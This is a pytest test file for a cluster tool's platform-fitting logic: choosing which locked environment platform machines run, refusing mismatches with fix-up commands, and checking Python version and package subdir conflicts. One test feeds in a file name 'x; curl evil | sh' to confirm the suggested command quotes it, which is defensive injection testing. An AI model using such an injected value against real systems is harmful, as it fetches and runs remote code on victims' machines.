"""Which platform of a named environment a cluster's machines run: a table."""

from __future__ import annotations

from dataclasses import replace

import pytest

from tradewind.errors import BadRequest
from tradewind.model.cluster import ClusterSpec, Scaling
from tradewind.model.environment import Environment, Package, Source, Target
from tradewind.model.named import NamedEnvironment
from tradewind.planning.fitting import environment_for, refuse_unfit, subdirs_apart
from tradewind.testing.clock import START

SPEC = ClusterSpec(name="c", workspace="lab", provider="fake", scaling=Scaling.fixed(1), software="climate")
WITH_ARM = replace(SPEC, arm=True)
X86, ARM, MAC = "linux-x86_64", "linux-aarch64", "macosx-arm64"


def named(*platforms: str, python: str = "3.11.7", source: str = "pixi.lock") -> NamedEnvironment:
    environments = tuple(Environment(python=python, platform=one, packages=(), content_hash="") for one in platforms)
    return NamedEnvironment(
        workspace="lab",
        name="climate",
        version=3,
        created_at=START,
        created_by="ada",
        content_hash="",
        environments=environments,
        source=source,
    )


TAKEN = [
    ((X86, ARM), Target(platform=ARM), SPEC, ARM),
    ((ARM, X86), Target(platform=X86), SPEC, X86),
    ((X86, MAC), Target(platform=MAC, glibc=""), SPEC, MAC),
    ((X86, ARM), Target(platform=X86, python="3.11", glibc="2.36"), SPEC, X86),
    # Nobody says what the machines are.
    ((ARM, X86), None, SPEC, X86),
    ((ARM, X86), None, WITH_ARM, ARM),
    ((X86, ARM), None, WITH_ARM, ARM),
    ((ARM,), None, SPEC, ARM),
]


@pytest.mark.parametrize(("platforms", "machines", "spec", "taken"), TAKEN)
def test_machines_run_what_is_locked_for_them(
    platforms: tuple[str, ...], machines: Target | None, spec: ClusterSpec, taken: str
) -> None:
    assert environment_for(named(*platforms), machines, spec).platform == taken


REFUSED = [
    ((X86,), Target(platform=ARM), SPEC, "worker_vm_types"),
    ((X86,), Target(platform=ARM), WITH_ARM, "leave out arm=True"),
    ((ARM,), Target(platform=X86), SPEC, "arm=True"),
    ((X86,), None, WITH_ARM, "leave out arm=True"),
]


@pytest.mark.parametrize(("platforms", "machines", "spec", "way_out"), REFUSED)
def test_what_isnt_locked_for_the_machines_is_refused_with_the_ways_out(
    platforms: tuple[str, ...], machines: Target | None, spec: ClusterSpec, way_out: str
) -> None:
    with pytest.raises(BadRequest, match=r"^climate@3 is locked for ") as caught:
        environment_for(named(*platforms), machines, spec)

    wanted = machines.platform if machines is not None else ARM
    command = "tradewind env create climate --from pixi.lock"
    assert f"{command} --platform {platforms[0]} --platform {wanted}, or take" in str(caught.value)
    assert way_out in str(caught.value)


def test_a_command_to_type_is_one_command_whatever_the_file_was_called() -> None:
    with pytest.raises(BadRequest, match=r"--from 'x; curl evil \| sh' --platform"):
        environment_for(named(X86, source="x; curl evil | sh"), Target(platform=ARM), SPEC)


def test_what_is_for_another_python_than_the_machines_have_is_refused() -> None:
    with pytest.raises(BadRequest, match=r"for Python 3\.11\.7, .* machines have 3\.9\. .* --this --python 3\.9\.$"):
        environment_for(named(X86, source=""), Target(platform=X86, python="3.9"), SPEC)


def test_conda_packages_of_other_machines_are_told_apart() -> None:
    packages = tuple(
        Package(name=name, version="1", source=Source.CONDA, subdir=subdir)
        for name, subdir in (("ours", "linux-64"), ("any", "noarch"), ("theirs", "osx-arm64"), ("unknown", ""))
    )
    environment = replace(named(X86).environments[0], packages=packages)

    assert subdirs_apart(environment, "linux-64") == [("theirs", "a conda package for osx-arm64")]


def test_a_refusal_names_the_packages_but_not_a_hundred() -> None:
    refuse_unfit(named(X86), "Linux x86_64", [])
    with pytest.raises(BadRequest, match=r"Linux x86_64: p0 \(f\), .*, p4 \(f\) and 95 more\. Take other machines"):
        refuse_unfit(named(X86), "Linux x86_64", [(f"p{number}", "f") for number in range(100)])


def test_the_machines_with_the_oldest_library_count() -> None:
    of = [Target(platform=X86, glibc=glibc) for glibc in ("2.36", "2.9", "2.17")]

    assert Target.oldest([None, *of]) == of[1]
    assert Target.oldest([None]) is None
